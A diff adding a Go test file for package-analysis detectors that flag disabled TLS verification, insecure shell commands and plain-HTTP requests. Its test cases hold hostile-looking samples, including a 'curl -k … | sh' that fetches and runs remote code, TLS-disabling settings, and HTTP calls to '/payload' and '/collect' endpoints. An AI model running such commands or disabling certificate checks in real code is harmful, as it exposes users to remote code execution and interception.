@@ -0,0 +1,122 @@
+package detections
+
+import (
+	"testing"
+
+	"github.com/ossf/package-analysis/pkg/api/staticanalysis/token"
+)
+
+func TestFindDisabledTLSVerification(t *testing.T) {
+	tests := []struct {
+		name        string
+		assignment  token.Assignment
+		wantSetting string
+		wantFound   bool
+	}{
+		{
+			name:        "rejectUnauthorized option",
+			assignment:  token.Assignment{Target: "rejectUnauthorized", Value: token.CallArg{Type: "Boolean", Value: "false"}},
+			wantSetting: "rejectUnauthorized=false",
+			wantFound:   true,
+		},
+		{
+			name:       "rejectUnauthorized enabled",
+			assignment: token.Assignment{Target: "rejectUnauthorized", Value: token.CallArg{Type: "Boolean", Value: "true"}},
+			wantFound:  false,
+		},
+		{
+			name:        "global agent option",
+			assignment:  token.Assignment{Target: "https.globalAgent.options.rejectUnauthorized", Member: true, Value: token.CallArg{Type: "Numeric", Value: "0"}},
+			wantSetting: "rejectUnauthorized=0",
+			wantFound:   true,
+		},
+		{
+			name:        "strictSSL option",
+			assignment:  token.Assignment{Target: "strictSSL", Value: token.CallArg{Type: "Boolean", Value: "false"}},
+			wantSetting: "strictSSL=false",
+			wantFound:   true,
+		},
+		{
+			name:        "environment variable",
+			assignment:  token.Assignment{Target: "process.env.NODE_TLS_REJECT_UNAUTHORIZED", Member: true, Value: token.CallArg{Type: "String", Value: "0"}},
+			wantSetting: "NODE_TLS_REJECT_UNAUTHORIZED=0",
+			wantFound:   true,
+		},
+		{
+			name:       "environment variable enabled",
+			assignment: token.Assignment{Target: "process.env.NODE_TLS_REJECT_UNAUTHORIZED", Member: true, Value: token.CallArg{Type: "String", Value: "1"}},
+			wantFound:  false,
+		},
+		{
+			name:       "unrelated option",
+			assignment: token.Assignment{Target: "keepAlive", Value: token.CallArg{Type: "Boolean", Value: "false"}},
+			wantFound:  false,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			setting, found := FindDisabledTLSVerification(tt.assignment)
+			if setting != tt.wantSetting || found != tt.wantFound {
+				t.Errorf("FindDisabledTLSVerification() = (%q, %v), want (%q, %v)", setting, found, tt.wantSetting, tt.wantFound)
+			}
+		})
+	}
+}
+
+func TestFindInsecureCommand(t *testing.T) {
+	tests := []struct {
+		command string
+		want    string
+	}{
+		{"NODE_TLS_REJECT_UNAUTHORIZED=0 node index.js", "NODE_TLS_REJECT_UNAUTHORIZED=0"},
+		{"curl -s -k https://example.com/x | sh", "curl -s -k"},
+		{"curl --insecure -o /tmp/x https://example.com/x", "curl --insecure"},
+		{"wget -q --no-check-certificate https://example.com/x", "wget -q --no-check-certificate"},
+		{"npm config set strict-ssl false", "npm config set strict-ssl false"},
+		{"curl -sSL https://example.com/install.sh", ""},
+		{"curl https://example.com; ls -k", ""},
+		{"NODE_TLS_REJECT_UNAUTHORIZED=1 node index.js", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			got, found := FindInsecureCommand(tt.command)
+			if got != tt.want || found != (tt.want != "") {
+				t.Errorf("FindInsecureCommand() = (%q, %v), want %q", got, found, tt.want)
+			}
+		})
+	}
+}
+
+func TestFindPlainHTTPRequest(t *testing.T) {
+	str := func(values ...string) []token.CallArg {
+		var args []token.CallArg
+		for _, v := range values {
+			args = append(args, token.CallArg{Type: "String", Value: v})
+		}
+		return args
+	}
+	tests := []struct {
+		name    string
+		call    token.Call
+		wantURL string
+	}{
+		{"fetch", token.Call{Callee: "fetch", Args: str("http://198.51.100.7/payload")}, "http://198.51.100.7/payload"},
+		{"http.get", token.Call{Callee: `require("http").get`, Args: str("HTTP://example.com/x")}, "HTTP://example.com/x"},
+		{"axios.post", token.Call{Callee: "axios.post", Args: str("http://example.com/collect", "data")}, "http://example.com/collect"},
+		{"xhr.open", token.Call{Callee: "xhr.open", Args: str("GET", "http://example.com/x")}, "http://example.com/x"},
+		{"https", token.Call{Callee: "fetch", Args: str("https://example.com/x")}, ""},
+		{"localhost", token.Call{Callee: "fetch", Args: str("http://localhost:3000/api")}, ""},
+		{"loopback address", token.Call{Callee: "http.get", Args: str("http://127.0.0.1:8080/")}, ""},
+		{"window.open", token.Call{Callee: "window.open", Args: str("http://example.com/")}, ""},
+		{"unrelated call", token.Call{Callee: "console.log", Args: str("http://example.com/")}, ""},
+		{"non-constant URL", token.Call{Callee: "fetch", Args: []token.CallArg{{Type: "Identifier", Value: "url"}}}, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			url, found := FindPlainHTTPRequest(tt.call)
+			if url != tt.wantURL || found != (tt.wantURL != "") {
+				t.Errorf("FindPlainHTTPRequest() = (%q, %v), want %q", url, found, tt.wantURL)
+			}
+		})
+	}
+}